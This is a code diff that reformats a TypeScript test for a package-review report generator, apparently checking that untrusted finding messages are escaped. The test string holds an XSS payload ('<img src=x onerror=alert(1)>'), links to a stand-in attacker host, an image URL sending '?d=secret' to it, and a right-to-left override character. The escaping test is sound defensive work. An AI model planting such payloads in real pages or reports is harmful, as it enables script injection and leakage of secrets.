@@ -5,13 +5,23 @@ import { escapeHtml } from '../src/report/html.js'
 import { buildReview } from '../src/core/review/review.js'
 import { finding } from '../src/core/findings/findings.js'
 
-const hostile = '<img src=x onerror=alert(1)> @octocat @acme/team #12 acme/repo#3 [click](https://evil.example) ![x](https://evil.example/x.png?d=secret) www.evil.example **bold** `code` | cell \u202Eevil\u202C\nsecond line'
+const hostile =
+  '<img src=x onerror=alert(1)> @octocat @acme/team #12 acme/repo#3 [click](https://evil.example) ![x](https://evil.example/x.png?d=secret) www.evil.example **bold** `code` | cell \u202Eevil\u202C\nsecond line'
 
 function reviewWith(message: string, count = 1, pkg = 'mallory/pkg') {
   return buildReview({
     toolVersion: '1.0.0',
     checks: ['validate'],
-    packages: [{ id: pkg, publisher: pkg.split('/')[0] as string, name: pkg.split('/')[1] as string, status: 'added', verdict: 'pass', version: '1.0.0' }],
+    packages: [
+      {
+        id: pkg,
+        publisher: pkg.split('/')[0] as string,
+        name: pkg.split('/')[1] as string,
+        status: 'added',
+        verdict: 'pass',
+        version: '1.0.0'
+      }
+    ],
     findings: Array.from({ length: count }, (_, i) =>
       finding('manifest/schema', { package: pkg, file: `publishers/${pkg}/manifest.yaml`, line: i + 1, column: 1 }, message, message)
     )
